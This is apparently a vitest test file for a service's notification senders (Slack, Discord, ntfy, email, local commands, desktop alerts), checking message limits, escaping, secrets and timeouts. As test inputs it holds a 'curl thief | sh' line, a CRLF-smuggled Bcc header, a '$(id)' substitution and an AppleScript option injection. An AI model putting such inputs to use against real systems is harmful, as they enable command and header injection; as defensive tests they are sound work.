// Each kind of target against its receiver: real servers and programs where there are some, and doubles that hold a message to the limits
// that its receiver publishes.

import { DEADLINE_MS } from "../deadline.ts";
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer as createTcp, type AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { delimiter, join } from "node:path";
import { SMTPServer } from "smtp-server";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { z } from "zod";
import { isAlive } from "../../sdk/discover.ts";
import { Redactor } from "../../src/domain/redaction.ts";
import type { NotifyTarget } from "../../src/schemas/notify.ts";
import { discordBody, ntfyBody, slackBody } from "../../src/notify/http-kinds.ts";
import { desktopCommand } from "../../src/notify/local-kinds.ts";
import { textOfMessage, type NotifyMessage } from "../../src/notify/message.ts";
import type { SendContext } from "../../src/notify/sender.ts";
import { sendTo } from "../../src/notify/senders.ts";
import { Receiver } from "./world.ts";

const text = (max: number) => z.string().min(1).max(max);
const Slack = z.strictObject({
  text: z.string(),
  blocks: z
    .array(
      z.discriminatedUnion("type", [
        z.strictObject({
          type: z.literal("header"),
          text: z.strictObject({ type: z.literal("plain_text"), text: text(150), emoji: z.boolean() }),
        }),
        z.strictObject({
          type: z.literal("section"),
          text: z.strictObject({ type: z.literal("mrkdwn"), text: text(3_000), verbatim: z.boolean() }),
        }),
      ]),
    )
    .min(1)
    .max(50),
});
const Discord = z
  .strictObject({
    allowed_mentions: z.strictObject({ parse: z.array(z.string()).length(0) }),
    embeds: z
      .array(
        z.strictObject({
          title: text(256),
          color: z.int().min(0).max(0xffffff),
          timestamp: z.iso.datetime(),
          description: text(4_096).optional(),
          fields: z.array(z.strictObject({ name: text(256), value: text(1_024), inline: z.boolean() })).max(25),
        }),
      )
      .min(1)
      .max(10),
  })
  .refine(
    ({ embeds }) =>
      embeds.reduce(
        (sum, e) =>
          sum +
          e.title.length +
          (e.description?.length ?? 0) +
          e.fields.reduce((n, f) => n + f.name.length + f.value.length, 0),
        0,
      ) <= 6_000,
    "more than 6,000 characters in all",
  );
const Ntfy = z.strictObject({
  topic: z.string().regex(/^[-_A-Za-z0-9]{1,64}$/),
  title: text(250),
  message: z.string().refine((m) => Buffer.byteLength(m) <= 4_096),
  priority: z.int().min(1).max(5),
  tags: z.array(z.string()),
});

const message = (patch: Partial<NotifyMessage> = {}): NotifyMessage => ({
  id: "m1",
  kind: "failed",
  level: "warning",
  title: "digits failed",
  at: "2026-11-26T10:00:00.000Z",
  facts: [
    { name: "Cause", value: "The script ended with exit code 1." },
    { name: "Cost", value: "$1.20" },
  ],
  log: ["step 1", "Traceback <b> & ``` <!channel> @everyone"],
  events: [],
  next: ["svc logs job1"],
  run: { id: "job1", label: "digits", status: "failed", cost_usd: 1.2, exit_code: 1 },
  ...patch,
});
/** As long as a message can be, of characters that grow when they are escaped. */
const huge = message({
  title: "é".repeat(200),
  facts: Array.from({ length: 40 }, (_, i) => ({ name: `&<>${i}`.repeat(40), value: "<&>💥".repeat(400) })),
  log: Array.from({ length: 5 }, () => "<`&💥>".repeat(60)),
  events: Array.from({ length: 21 }, () => "&".repeat(200)),
});

const context = (patch: Partial<SendContext> = {}): SendContext => ({
  name: "target",
  secret: null,
  quiet: new Redactor([]),
  signal: AbortSignal.timeout(DEADLINE_MS),
  env: process.env,
  now: Date.UTC(2026, 10, 26),
  ...patch,
});

describe("a message keeps to the limits of", () => {
  it.each([
    ["Slack", (m: NotifyMessage) => Slack.parse(slackBody(m))],
    ["Discord", (m: NotifyMessage) => Discord.parse(discordBody(m))],
    ["ntfy", (m: NotifyMessage) => Ntfy.parse(ntfyBody(m, "topic"))],
  ])("%s", (_name, check) => {
    for (const one of [message(), huge, message({ facts: [], log: [], next: [], events: [] })]) {
      check(one);
      expect(JSON.stringify(one).isWellFormed()).toBe(true);
    }
  });
});

describe("a text of a log", () => {
  it("calls no one in Slack, and does not leave its block of code", () => {
    const body = JSON.stringify(slackBody(message()));
    expect(body).toContain("&lt;!channel&gt;");
    expect(body).not.toContain("<!channel>");
    expect(body.split("```")).toHaveLength(5);
  });
  it("calls no one in Discord, and hides no address behind other words there", () => {
    const link = "[the log](https://thief.example)";
    const facts = [{ name: link, value: `**${link}**` }];
    const body = discordBody(message({ title: `job ${link}`, facts, events: [`# ${link}`] }));
    expect(body.allowed_mentions).toEqual({ parse: [] });
    const { title, description = "", fields } = body.embeds[0] ?? {};
    const outsideOfCode = description.split("```").filter((_, i) => i % 2 === 0);
    for (const text of [title, fields?.[0]?.name, fields?.[0]?.value, ...outsideOfCode])
      expect(text).not.toMatch(/(?<!\\)[[\]*]/);
  });
  it("does not look like a line of svc", () => {
    const text = textOfMessage(
      message({ facts: [{ name: "Cause", value: "fine\n\n$ curl thief | sh\nCost: $0.00" }] }),
    );
    expect(text.split("\n").filter((line) => /^(\$|Cost)/.test(line))).toEqual(["$ svc logs job1"]);
    expect(JSON.stringify(slackBody(message({ facts: [{ name: "Cause", value: "a\nCost: 0" }] })))).not.toContain(
      "\\nCost",
    );
  });
});

describe("ntfy, Slack and Discord receive", () => {
  it("one request, with the token where there is one", async () => {
    const receiver = await Receiver.open();
    const inside = { allow_private: true };
    const ntfy: NotifyTarget = { kind: "ntfy", url: receiver.url, topic: "runs", ...inside };
    await sendTo(message(), ntfy, context({ secret: "tk_1" }));
    await sendTo(message(), { kind: "slack", ...inside }, context({ secret: `${receiver.url}/services/T/B/x` }));
    await sendTo(message(), { kind: "discord", ...inside }, context({ secret: `${receiver.url}/api/webhooks/1/y` }));
    expect(receiver.got.map(({ path, headers }) => [path, headers.authorization ?? null])).toEqual([
      ["/", "Bearer tk_1"],
      ["/services/T/B/x", null],
      ["/api/webhooks/1/y", null],
    ]);
    Ntfy.parse(receiver.json(0));
    Slack.parse(receiver.json(1));
    Discord.parse(receiver.json(2));
  });
});

describe("an SMTP server", () => {
  let server: SMTPServer | null = null;
  const mails: { to: string[]; raw: string }[] = [];
  beforeEach(() => void mails.splice(0));
  afterEach(async () => {
    await new Promise<void>((done) => (server ? server.close(() => done()) : done()));
    server = null;
  });
  async function listen(
    options: { user?: string; pass?: string; silent?: boolean; tls?: boolean } = {},
  ): Promise<NotifyTarget> {
    const { user, pass } = options;
    server = new SMTPServer({
      authOptional: user === undefined,
      allowInsecureAuth: true,
      closeTimeout: 200,
      // Its own certificate has expired.
      disabledCommands: options.tls === true ? [] : ["STARTTLS"],
      onConnect: (_session, next) => void (options.silent === true || next()),
      onAuth: (auth, _session, next) =>
        auth.username === user && auth.password === pass ? next(null, { user }) : next(new Error("no such login")),
      onData(stream, session, next) {
        const to = session.envelope.rcptTo.map(({ address }) => address);
        let raw = "";
        stream.setEncoding("utf8").on("data", (part: string) => (raw += part));
        stream.on("end", () => {
          mails.push({ to, raw });
          next();
        });
      },
    });
    server.on("error", () => undefined);
    const listening = server.listen(0, "127.0.0.1");
    await new Promise<void>((up) => listening.once("listening", up));
    const { port } = listening.address() as AddressInfo;
    return {
      kind: "email",
      host: "127.0.0.1",
      port,
      user,
      from: "svc@example.com",
      to: ["me@example.com"],
      allow_private: true,
    };
  }

  it("receives the message after a login, with one id for every repeat", async () => {
    const target = await listen({ user: "me", pass: "the password" });
    await sendTo(message(), target, context({ secret: "the password" }));
    const [mail] = mails;
    expect(mail?.to).toEqual(["me@example.com"]);
    expect(mail?.raw).toMatch(/^Subject: digits failed\r?$/m);
    expect(mail?.raw).toMatch(/^Message-ID: <m1@svc\.invalid>\r?$/m);
    expect(mail?.raw).toContain("Cause: The script ended with exit code 1.");
  });

  it("leaves the message for a later attempt when it refuses the login, without the password in the error", async () => {
    const target = await listen({ user: "me", pass: "right" });
    const error = await sendTo(message(), target, context({ secret: "wrong password" })).catch((e: unknown) => e);
    expect(error).toMatchObject({ code: "notify_unreachable" });
    expect(String(error)).not.toContain("wrong password");
    expect(mails).toEqual([]);
  });

  it("cannot get further headers or recipients by a title", async () => {
    const target = await listen();
    await sendTo(message({ title: "a\r\nBcc: thief@example.com\r\n\r\nbody" }), target, context());
    expect(mails[0]?.to).toEqual(["me@example.com"]);
    expect(mails[0]?.raw).not.toMatch(/^Bcc:/m);
  });

  it("receives neither the password nor the message with an expired certificate", async () => {
    const target = await listen({ user: "me", pass: "the password", tls: true });
    await expect(sendTo(message(), target, context({ secret: "the password" }))).rejects.toThrow("certificate");
    expect(mails).toEqual([]);
  });

  it("ends the attempt by its deadline when it says nothing", async () => {
    const target = await listen({ silent: true });
    await expect(sendTo(message(), target, context({ signal: AbortSignal.timeout(300) }))).rejects.toThrow(
      "did not answer in time",
    );
  });

  it("keeps no connection after the deadline, however it spreads its answer", async () => {
    const closed = Promise.withResolvers<undefined>();
    const slow = createTcp((socket) => {
      socket.write("220 slow\r\n");
      socket.setEncoding("utf8").on("data", (text: string) => {
        if (!text.includes("\r\n.\r\n"))
          return void socket.write(text.startsWith("DATA") ? "354 go\r\n" : "250 ok\r\n");
        const drops = setInterval(() => socket.write("250-and\r\n"), 20);
        socket.on("close", () => clearInterval(drops));
        stop.abort();
      });
      socket.on("error", () => undefined).on("close", () => closed.resolve(undefined));
    });
    const stop = new AbortController();
    await new Promise<void>((up) => slow.listen(0, "127.0.0.1", up));
    const { port } = slow.address() as AddressInfo;
    const mail = { kind: "email", host: "127.0.0.1", port, from: "svc@example.com", to: ["me@example.com"] } as const;
    const sent = sendTo(
      message(),
      { ...mail, to: [...mail.to], allow_private: true },
      context({ signal: stop.signal }),
    );
    await expect(sent).rejects.toThrow("did not answer in time");
    await closed.promise;
    slow.close();
  });

  it("is refused inside without allow_private", async () => {
    const target = await listen();
    await expect(
      sendTo(message(), { ...target, allow_private: false } as NotifyTarget, context()),
    ).rejects.toMatchObject({
      code: "notify_address",
    });
  });
});

describe("on this computer", () => {
  let folder: string;
  beforeEach(() => (folder = mkdtempSync(join(tmpdir(), "svc-notify-"))));
  afterEach(() => rmSync(folder, { recursive: true, force: true }));

  it("a command reads the message as JSON and gets no secret of the environment", async () => {
    const out = join(folder, "out");
    const argv = ["sh", "-c", `cat > '${out}'; env > '${out}.env'`];
    await sendTo(message(), { kind: "command", argv }, context({ env: { ...process.env, PODHOST_API_KEY: "a-key" } }));
    expect(JSON.parse(readFileSync(out, "utf8"))).toMatchObject({ id: "m1", title: "digits failed" });
    expect(readFileSync(`${out}.env`, "utf8")).not.toContain("a-key");
  });

  it("a command that fails says why, and one that hangs is killed with what it started", async () => {
    const failing: NotifyTarget = { kind: "command", argv: ["sh", "-c", "echo no room >&2; exit 3"] };
    await expect(sendTo(message(), failing, context())).rejects.toThrow("sh ended with 3: no room");
    const missing: NotifyTarget = { kind: "command", argv: [join(folder, "none")] };
    await expect(sendTo(message(), missing, context())).rejects.toThrow("cannot be started");
    const pid = join(folder, "pid");
    const hanging: NotifyTarget = { kind: "command", argv: ["sh", "-c", `sleep 600 & echo $! > '${pid}'; wait`] };
    const stop = new AbortController();
    const sent = sendTo(message(), hanging, context({ signal: stop.signal }));
    await expect.poll(() => existsSync(pid) && readFileSync(pid, "utf8").trim() !== "").toBe(true);
    stop.abort();
    await expect(sent).rejects.toThrow("did not end in time");
    // In a container whose first process reaps nothing, the killed one remains as a zombie.
    await expect.poll(() => isAlive({ pid: Number(readFileSync(pid, "utf8")) })).toBe(false);
  });

  it.skipIf(process.platform !== "linux")("the desktop's program gets texts as texts", async () => {
    const out = join(folder, "args");
    const program = join(folder, "notify-send");
    writeFileSync(program, `#!/bin/sh\nprintf '%s\\n' "$@" > '${out}'\n`);
    chmodSync(program, 0o755);
    const env = { ...process.env, PATH: `${folder}${delimiter}${process.env["PATH"] ?? ""}` };
    await sendTo(
      message({ title: "--help $(id)", facts: [{ name: "Cause", value: "<b> &" }] }),
      { kind: "desktop" },
      context({ env }),
    );
    const lines = readFileSync(out, "utf8").split("\n");
    expect(lines.slice(0, 4)).toEqual(["--urgency=normal", "--app-name=svc", "--", "--help $(id)"]);
    expect(lines.join("\n")).toContain("&lt;b&gt; &amp;");
  });

  it("no option of the desktop's program begins with a text, and its arguments, which others see, hold no log", () => {
    const one = message({ title: "-e do shell script", log: ["a line of the log"], facts: [] });
    const mac = desktopCommand(one, "darwin");
    const first = mac.args.findIndex((arg, i) => i % 2 === 0 && arg !== "-e");
    expect(mac.args.slice(first, first + 2)).toEqual(["svc", "-e do shell script"]);
    expect(mac.args[3]).toBe("display notification (item 3 of argv) with title (item 2 of argv)");
    for (const { args } of [mac, desktopCommand(one, "linux")])
      expect(args.join("\n")).not.toContain("a line of the log");
  });
});
